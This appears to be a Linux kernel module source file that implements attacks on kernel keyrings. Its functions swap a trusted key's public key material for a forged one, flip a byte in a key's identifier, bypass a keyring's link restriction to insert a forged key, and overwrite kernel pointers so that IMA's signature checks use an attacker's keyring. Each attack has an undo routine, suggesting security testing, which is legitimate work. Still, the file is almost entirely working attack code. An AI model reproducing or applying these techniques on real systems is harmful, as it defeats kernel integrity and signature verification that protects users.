// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks on the keyrings: exchange the key inside a key, link a key past the
 * restriction, put another keyring in the place of IMA's.
 */
#include <crypto/public_key.h>
#include <keys/asymmetric-subtype.h>
#include <linux/err.h>
#include <linux/mm.h>
#include <linux/string.h>

#include "attack.h"

#define SWAPS_MAX 4
#define SLOTS_MAX 16

struct swap {
	struct key *victim, *attacker;
	void *subtype;
	struct public_key old;
};

static struct swap swaps[SWAPS_MAX];
static int swap_count;

/*
 * The victim keeps its name, its id and its place; what it verifies with is the
 * attacker's. Where the key is one of the TEE's, its subtype goes as well.
 */
int attack_swap(const struct target *t)
{
	struct key *ring = find_keyring(t->ring);
	struct swap *s = &swaps[swap_count];
	struct public_key *old, *new;

	if (!ring || swap_count == SWAPS_MAX)
		return -ENOENT;
	s->victim = find_key(ring, t->id);
	if (!s->victim)
		return -ENOKEY;
	s->attacker = forge_key(t->cert);
	if (!s->attacker) {
		key_put(s->victim);
		return -ENOENT;
	}
	old = s->victim->payload.data[asym_crypto];
	new = s->attacker->payload.data[asym_crypto];
	s->old = *old;
	s->subtype = s->victim->payload.data[asym_subtype];
	old->key = new->key;
	old->keylen = new->keylen;
	old->pkey_algo = new->pkey_algo;
	s->victim->payload.data[asym_subtype] =
		s->attacker->payload.data[asym_subtype];
	swap_count++;
	return 0;
}

void undo_swap(void)
{
	while (swap_count) {
		struct swap *s = &swaps[--swap_count];
		struct public_key *pub = s->victim->payload.data[asym_crypto];

		*pub = s->old;
		s->victim->payload.data[asym_subtype] = s->subtype;
		key_put(s->victim);
		key_put(s->attacker);
	}
}

static struct key *renamed;
static u8 *rename_at;

/*
 * A key that stands for one in the TEE has its subject key identifier behind a
 * struct public_key, the ring and a length: make it that of a key that is nowhere.
 */
int attack_rename(const struct target *t)
{
	struct key *ring = find_keyring(t->ring);
	struct key *key = ring && !renamed ? find_key(ring, t->id) : NULL;
	const struct asymmetric_key_id *skid;
	u8 *name;

	if (!key)
		return -ENOKEY;
	skid = asymmetric_key_ids(key)->id[1];
	name = (u8 *)key->payload.data[asym_crypto] +
	       sizeof(struct public_key) + 2;
	if (memcmp(name, skid->data, skid->len)) {
		key_put(key);
		return -EINVAL;
	}
	renamed = key;
	rename_at = name + skid->len - 1;
	*rename_at ^= 1;
	return 0;
}

void undo_rename(void)
{
	if (!renamed)
		return;
	*rename_at ^= 1;
	key_put(renamed);
	renamed = NULL;
}

struct link {
	struct key *ring, *key;
};

static struct link links[SWAPS_MAX];
static int link_count;

/* A keyring without a restriction takes whatever the kernel links into it. */
int attack_link(const struct target *t)
{
	struct key *ring = find_keyring(t->ring);
	struct key_restriction *saved;
	struct key *key;
	int rc;

	if (!ring || link_count == SWAPS_MAX)
		return -ENOENT;
	key = forge_key(t->cert);
	if (!key)
		return -ENOENT;
	saved = ring->restrict_link;
	ring->restrict_link = NULL;
	rc = key_link(ring, key);
	ring->restrict_link = saved;
	if (rc) {
		key_put(key);
		return rc;
	}
	links[link_count].ring = ring;
	links[link_count++].key = key;
	return 0;
}

void undo_link(void)
{
	while (link_count) {
		struct link *l = &links[--link_count];
		unsigned long keep = l->ring->flags;

		clear_bit(KEY_FLAG_KEEP, &l->ring->flags);
		/* A keyring of the TEE lets nothing go; the collector takes it. */
		if (key_unlink(l->ring, l->key))
			key_invalidate(l->key);
		l->ring->flags = keep;
		key_put(l->key);
	}
}

struct slot {
	struct key **where;
	struct key *old;
};

static struct slot slots[SLOTS_MAX];
static int slot_count;

/* Replaces each pointer to @from in the kernel's data by one to @to. */
static void replace_pointers(struct key *from, struct key *to)
{
	struct key **p = find_symbol("_sdata");
	struct key **end = find_symbol("_end");

	for (; p && p < end && slot_count < SLOTS_MAX; p++) {
		if (*p != from || poke(p, &to, sizeof(to)))
			continue;
		slots[slot_count].where = p;
		slots[slot_count++].old = from;
	}
}

/*
 * digsig.c keeps its keyrings in a static array. Whoever finds it by its
 * contents needs no symbol.
 */
int attack_ring(const struct target *t)
{
	struct key *ring = find_keyring(t->ring);
	struct key *key = forge_key(t->cert);
	int before = slot_count;

	if (!ring || !key)
		return -ENOENT;
	key_put(key); /* the forged keyring holds it */
	replace_pointers(ring, forged_keyring());
	pr_info("%d pointers to %s replaced\n", slot_count - before, t->ring);
	return slot_count > before ? 0 : -ENOENT;
}

void undo_ring(void)
{
	while (slot_count) {
		struct slot *s = &slots[--slot_count];

		poke(s->where, &s->old, sizeof(s->old));
	}
}
